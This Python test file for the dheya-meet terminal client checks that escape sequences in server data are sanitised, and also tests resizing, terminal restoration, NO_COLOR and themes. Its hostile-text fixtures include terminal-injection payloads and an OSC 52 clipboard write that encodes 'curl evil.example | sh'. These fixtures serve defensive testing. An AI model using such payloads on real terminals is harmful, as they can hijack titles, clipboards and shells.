"""The interactive dheya-meet and the terminal itself: hostile text from the server never
reaches the terminal as control sequences (checked on the raw bytes the program wrote),
resizing at any moment, each TERM we support (and the terminal given back as it was),
NO_COLOR, and a user theme overriding a built-in one."""
import base64
import os
import re
import signal
import sqlite3
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
from harness import CLIENT_BIN, ROOT, Client, Server, check, eq, run, test  # noqa: E402
from term import AFTER_EXIT, Term  # noqa: E402

srv = Server()
ESC = "\x1b"


def book(label, start=7200):
    mentor, mentee, pkg = srv.cast(label)
    when = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + start))
    b = srv.book(mentee, mentor, pkg, when=when)["booking"]
    return mentor, mentee, pkg, b


def start(t, mentor, *args, **env):
    c = Client(srv, mentor["token"], scratch=t.scratch)
    t.run([CLIENT_BIN, *args], env={**c.env, **env})
    return c


def quit_cleanly(t, keys=("q",)):
    t.send_keys(*keys)
    eq(t.wait_exit(), 0, "exit status")


# ---- hostile text ----

CLIP = base64.b64encode(b"curl evil.example | sh").decode()
HOSTILE_NAME = (f"Mal{ESC}]0;PWNED-TITLE\x07{ESC}[6n\u202eroF{ESC}[?1049h\u009b31m"
                f"{ESC}]52;c;{CLIP}\x07{ESC}")  # ends with a lone ESC, the notes go on
HOSTILE_NOTES = (f"]0;SPLIT-TITLE\x07Review {ESC}]2;PWNED2{ESC}\\goals"
                 f"{ESC}]8;;https://evil.example/{ESC}\\link{ESC}]8;;{ESC}\\"
                 f"{ESC}P+q544e{ESC}\\{ESC}[21t{ESC}[?1000h zero\u200bwidth\r\nline\tB\bS"
                 f"{ESC}[2J\u0085\u009d0;C1-TITLE\u009c")
HOSTILE_PACKAGE = f"Pkg{ESC}[?1049l{ESC}]0;PKG-TITLE\x07"
HOSTILE_URL_TAIL = f"{ESC}]0;URL-TITLE\x07"


def make_hostile(mentee, pkg, b):
    """Writes the hostile text straight into the database, as a compromised or buggy
    platform would serve it (JSON carries it as \\u001b and friends)."""
    with sqlite3.connect(srv.db) as db:
        db.execute("UPDATE users SET name = ? WHERE id = ?", (HOSTILE_NAME, mentee["id"]))
        db.execute("UPDATE packages SET name = ? WHERE id = ?", (HOSTILE_PACKAGE, pkg))
        db.execute("UPDATE bookings SET notes = ?, meeting_url = meeting_url || ? WHERE id = ?",
                   (HOSTILE_NOTES, HOSTILE_URL_TAIL, b["id"]))
        db.execute("INSERT INTO participants(booking_id, name, email, joined_at) "
                   "VALUES (?, ?, ?, ?)", (b["id"], HOSTILE_NAME, "x@example.com",
                                           int(time.time())))


def check_raw_is_clean(raw):
    text = raw.decode("utf-8", errors="surrogateescape")
    # No OSC (titles, clipboard, hyperlinks), DCS, SOS, PM or APC: the program itself sends
    # none of them unless the mentor asks to copy the URL.
    for m in re.finditer(ESC, text):
        nxt = text[m.end():m.end() + 1]
        check(nxt in "[()=>78M", f"ESC {nxt!r} at {m.start()}: {text[m.start():m.start()+40]!r}")
    for seq in (f"{ESC}[6n", f"{ESC}[21t", f"{ESC}[?1000h", f"{ESC}]", f"{ESC}P"):
        check(seq not in text, f"{seq!r} reached the terminal")
    eq(text.count(f"{ESC}[?1049h"), 1, "the alternate screen is entered once, by curses")
    bad = sorted({hex(ord(ch)) for ch in text
                  if 0x80 <= ord(ch) <= 0x9f or 0xdc80 <= ord(ch) <= 0xdc9f
                  or ord(ch) in (0x202e, 0x200b)})
    eq(bad, [], "C1 controls (encoded or raw) and bidi/zero-width characters written")
    for word in ("PWNED-TITLE", "PKG-TITLE", "SPLIT-TITLE", "URL-TITLE"):
        i = text.find(word)
        check(i < 0 or ESC not in text[max(0, i - 4):i], f"{word} follows an ESC")


@test
def hostile_names_and_notes_never_reach_the_terminal():
    mentor, mentee, pkg, b = book("Hal", start=-60)
    make_hostile(mentee, pkg, b)
    with Term(120, 40) as t:
        start(t, mentor)
        title = t.title_before
        s = t.wait_for("Mal␛")
        t.send_keys("Enter")
        s = t.wait_for("Session 1 with Mal")
        s = t.wait_for("Review")  # the notes, in the sidebar
        check("<U+202E>" in s, f"the bidi override is shown escaped:\n{s}")
        check(re.search(r"(?m)^ {4}Mal␛", s), f"the participant is listed:\n{s}")
        eq(t.title(), title, "the window title")
        t.send_keys("f")
        t.wait_for("How did the session with Mal")
        t.send_keys("Escape")
        t.wait_for("Session 1 with Mal")
        t.send_keys("q")
        t.wait_for("WHEN")
        quit_cleanly(t)
        check_raw_is_clean(t.raw())
        eq(t.title(), title, "the window title")
        eq(t.buffers(), "", "no OSC 52 reached the terminal's clipboard")


@test
def a_long_participant_name_is_cut_not_the_news_that_they_joined():
    mentor, mentee, pkg, b = book("Pam", start=-60)
    long_name = "Parvathy " + "Venkataraman-" * 8 + "Iyer"
    with Term(80, 24) as t:
        start(t, mentor, "--session", b["id"])
        t.wait_for("No one has joined yet.")
        with sqlite3.connect(srv.db) as db:
            db.execute("INSERT INTO participants(booking_id, name, email, joined_at) "
                       "VALUES (?, ?, ?, ?)", (b["id"], long_name, "p@example.com",
                                               int(time.time())))
        t.send_keys("F5")
        s = t.wait_for("joined the meeting")
        line = next(x for x in s.splitlines() if "joined the meeting" in x)
        check(re.fullmatch(r" Parvathy Venkataraman-.*… joined the meeting", line), line)
        quit_cleanly(t)  # not joined: q quits at once


# ---- resizing ----

def masked(screen):
    """The screen with digits masked: the clock and the countdown move."""
    return re.sub(r"\d", "0", screen)


def resize_and_settle(t, w, h, want):
    t.resize(w, h)
    return t.wait_for(lambda s: want(s) and len(s.splitlines()) <= h)


@test
def a_resize_storm_never_crashes_or_garbles():
    mentor, mentee, pkg, b = book("Ivo")
    with Term(80, 24) as t:
        start(t, mentor, "--session", b["id"])
        before = masked(t.wait_for(lambda s: "Session 1 with Ivo" in s and "Notes" in s))
        pid = t.pid()
        t.resize(120, 40)
        before_wide = masked(t.wait_for(lambda s: "Session 1 with Ivo" in s and
                                        s.splitlines()[-1].startswith("Enter Join") and
                                        len(s.splitlines()) == 40))
        sizes = [(79, 23), (20, 5), (100, 30), (30, 8), (120, 40), (21, 6), (60, 16),
                 (59, 16), (20, 5), (80, 24), (45, 12), (200, 60)]
        for _ in range(4):
            for w, h in sizes:
                t.resize(w, h)
        # Keys wait while the terminal is too small, and tmux may signal the last
        # resize after a key sent at once: so wait for the last size to be drawn.
        t.wait_for(lambda s: len(s.splitlines()) == 60 and
                   s.splitlines()[-1].startswith("Enter Join"))
        t.send_keys("?")  # an overlay through the next storm
        t.wait_for("Keys: Meeting room")
        for w, h in reversed(sizes):
            t.resize(w, h)
        resize_and_settle(t, 20, 5, lambda s: "too small" in s)
        s = resize_and_settle(t, 40, 10, lambda s: "terminal too small (need 60x16)" in s)
        check("Session 1" not in s, s)
        s = resize_and_settle(t, 80, 24, lambda s: "Keys: Meeting room" in s)
        check(s.splitlines()[0].startswith(" dheya-meet │ Meeting room"), s)
        t.send_keys("Escape")
        s = t.wait_for(lambda s: "Keys:" not in s and masked(s) == before)
        t.resize(120, 40)
        t.wait_for(lambda s: masked(s) == before_wide)
        eq(t.pid(), pid, "the same process throughout")
        quit_cleanly(t)


# ---- each TERM ----

@test
def each_supported_term_shows_the_screen_and_is_given_back():
    mentor, mentee, pkg, b = book("Jo")
    for term in ("xterm-256color", "screen-256color", "tmux-256color", "linux", "vt100"):
        with Term(80, 24, term=term) as t:
            start(t, mentor)
            s = t.wait_for("Jo Mentee")
            check(s.splitlines()[0].startswith(" dheya-meet │ Sessions"), f"{term}:\n{s}")
            check(s.splitlines()[-1].startswith("Enter Open"), f"{term}:\n{s}")
            quit_cleanly(t)
            before, after = t.stty()
            eq(after, before, f"{term}: the tty modes")
            s = t.wait_for(AFTER_EXIT)
            check(re.search(r"^" + re.escape(AFTER_EXIT), s, re.M),
                  f"{term}: the shell writes from the first column:\n{s}")
            eq(t.info("#{alternate_on} #{cursor_flag} #{keypad_cursor_flag} #{keypad_flag}"),
               "0 1 0 0", f"{term}: normal screen, cursor shown, keypad modes off")


@test
def sigterm_sighup_and_sigint_give_the_terminal_back():
    mentor, mentee, pkg, b = book("Max")
    with Term(80, 24) as t:
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            start(t, mentor, "--session", b["id"])
            t.wait_for("Session 1 with Max")
            os.kill(t.pid(), sig)
            eq(t.wait_exit(), 128 + sig, f"{sig.name}: exit status")
            before, after = t.stty()
            eq(after, before, f"{sig.name}: the tty modes")
            t.wait_for(AFTER_EXIT)
            eq(t.info("#{alternate_on} #{cursor_flag}"), "0 1", f"{sig.name}: screen, cursor")


# ---- colours ----

COLOUR = {*range(30, 38), 38, *range(40, 48), 48, *range(90, 98), *range(100, 108)}


def colours_in(text):
    """The colour parameters (foreground and background) of every SGR sequence in text."""
    found = set()
    for m in re.finditer(r"\x1b\[([0-9;:]*)m", text):
        params = [int(p) for p in re.split(r"[;:]", m.group(1)) if p.isdigit()]
        found |= {p for p in params if p in COLOUR}
    return found


@test
def no_color_means_no_colours():
    mentor, mentee, pkg, b = book("Kim")
    with Term(80, 24) as t:
        start(t, mentor)
        s = t.wait_for("Kim Mentee", colours=True)
        check(colours_in(s), "colours without NO_COLOR (the test can see them)")
        quit_cleanly(t)
        start(t, mentor, NO_COLOR="1")
        s = t.wait_for("Kim Mentee", colours=True)
        eq(colours_in(s), set(), f"colours on screen with NO_COLOR: {s!r}")
        check("\x1b[7m" in s or "\x1b[1;7m" in s or ";7m" in s,
              "the selection still shows (reverse)")
        quit_cleanly(t)
        eq(colours_in(t.raw().decode(errors="replace")), set(), "colours written")


@test
def a_user_theme_overrides_the_built_in_default():
    mentor, mentee, pkg, b = book("Lou")
    with Term(80, 24) as t:
        c = start(t, mentor)
        first = t.wait_for("Lou Mentee", colours=True).splitlines()[0]
        check({37, 44} <= colours_in(first), f"the built-in title: {first!r}")
        quit_cleanly(t)
        themes = os.path.join(c.env["XDG_CONFIG_HOME"], "dheya-meet", "themes")
        os.makedirs(themes)
        with open(os.path.join(ROOT, "themes", "default.theme")) as f:
            text = f.read()
        text, n = re.subn(r"(?m)^color title .*$", "color title yellow magenta bold", text)
        eq(n, 1, "the built-in default has a title line")
        with open(os.path.join(themes, "default.theme"), "w") as f:
            f.write(text)
        start(t, mentor)
        first = t.wait_for("Lou Mentee", colours=True).splitlines()[0]
        found = colours_in(first)
        check({33, 45} <= found and not {37, 44} & found, f"the user's title: {first!r}")
        quit_cleanly(t)


if __name__ == "__main__":
    run()
